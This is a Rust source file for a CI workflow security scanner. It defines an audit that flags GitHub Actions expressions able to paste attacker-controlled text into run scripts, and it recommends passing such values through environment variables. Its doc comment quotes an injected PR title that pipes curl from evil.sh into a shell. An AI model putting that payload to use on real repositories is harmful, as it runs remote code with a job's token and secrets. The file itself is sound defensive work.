use ci_intel_core::finding::{Confidence, Severity};

use super::{Audit, Ctx, Scope, step_route};
use crate::expr;
use crate::model::Step;
use crate::taint::{Env, Level};
use crate::yaml::Node;

audit!(
    /// **What it does**: flags `${{ … }}` expressions inside `run:` scripts and
    /// `actions/github-script` `script:` inputs that can expand to attacker-controlled text:
    /// issue, PR, comment and review text, commit messages, PR branch names
    /// (`github.head_ref`), string `inputs`, and — with less confidence — step and job outputs
    /// and environment variables set outside the workflow. Expressions that can only produce a
    /// number, a SHA, a boolean (comparisons, `contains()`) or a typed input are not flagged.
    ///
    /// **Why**: the expression is substituted into the script's text before the shell runs it.
    /// A PR titled `"; curl evil.sh | sh; #` then runs as part of the script, with the job's
    /// token and secrets.
    ///
    /// **Fix**: pass the value through an environment variable and quote it in the script:
    /// `env: { TITLE: "${{ github.event.pull_request.title }}" }` and `echo "$TITLE"`.
    TemplateInjection,
    "template-injection",
    Error,
    "An expression that can expand to attacker-controlled text is pasted into a script."
);

impl Audit for TemplateInjection {
    fn step(&self, scope: Scope<'_, '_>, step: &Step<'_>, cx: &mut Ctx<'_>) {
        let env = step_env(scope, step);
        if let Some(run) = step.run {
            check(
                run,
                "run",
                &env,
                &format!("{}.run", step_route(scope, step)),
                cx,
            );
        }
        if step.uses_action("actions/github-script")
            && let Some(script) = step.with_value("script")
        {
            check(
                script,
                "script",
                &env,
                &format!("{}.with.script", step_route(scope, step)),
                cx,
            );
        }
    }
}

/// The evaluation environment of a step.
pub fn step_env<'s, 'a>(scope: Scope<'s, 'a>, step: &Step<'a>) -> Env<'s, 'a> {
    match scope {
        Scope::Workflow(wf, job) => Env {
            workflow: Some(wf),
            job: Some(job),
            action: None,
            envs: [step.env, job.env, wf.env],
        },
        Scope::Action(a) => Env {
            workflow: None,
            job: None,
            action: Some(a),
            envs: [step.env, None, None],
        },
    }
}

fn check(node: Node<'_>, what: &str, env: &Env<'_, '_>, route: &str, cx: &mut Ctx<'_>) {
    let Some(text) = node.as_str() else { return };
    let mut cursor = 0;
    for occ in expr::occurrences(text) {
        let Some(t) = env.expression(occ.inner) else {
            continue;
        };
        let raw = &text[occ.start..occ.end];
        // The expression as written; in folded or escaped scalars the source differs from the
        // value, so fall back to its context path, then to the scalar itself.
        let found = node.find(raw, cursor).or_else(|| {
            let path = expr::parse(occ.inner)
                .map(|e| expr::value_sources(&e))
                .unwrap_or_default();
            path.first().and_then(|p| node.find(p, cursor))
        });
        let location = match found {
            Some((s, e)) => {
                cursor = e - node.byte_span().0;
                node.src.location(s, e)
            }
            None => node.location(),
        };
        let input = t.path.starts_with("inputs.") || t.path.starts_with("github.event.inputs.");
        let (severity, confidence, how) = match t.level {
            Level::High => (
                Severity::Error,
                Confidence::High,
                "attacker-controlled text",
            ),
            // String inputs of reusable workflows and actions are whatever the caller passes.
            Level::Medium if input => (
                Severity::Error,
                Confidence::Medium,
                "a string input, which the caller controls",
            ),
            Level::Medium => (
                Severity::Warning,
                Confidence::Medium,
                "text an attacker may control",
            ),
            Level::Low => (
                Severity::Note,
                Confidence::Low,
                "a value set elsewhere that may carry untrusted text",
            ),
        };
        cx.report(
            &TemplateInjection::RULE,
            severity,
            confidence,
            location,
            format!(
                "`{raw}` expands {how} (`{}`) into this `{what}:`; pass it through an environment variable instead",
                t.path
            ),
            &format!("{route}: {raw}"),
        );
    }
}
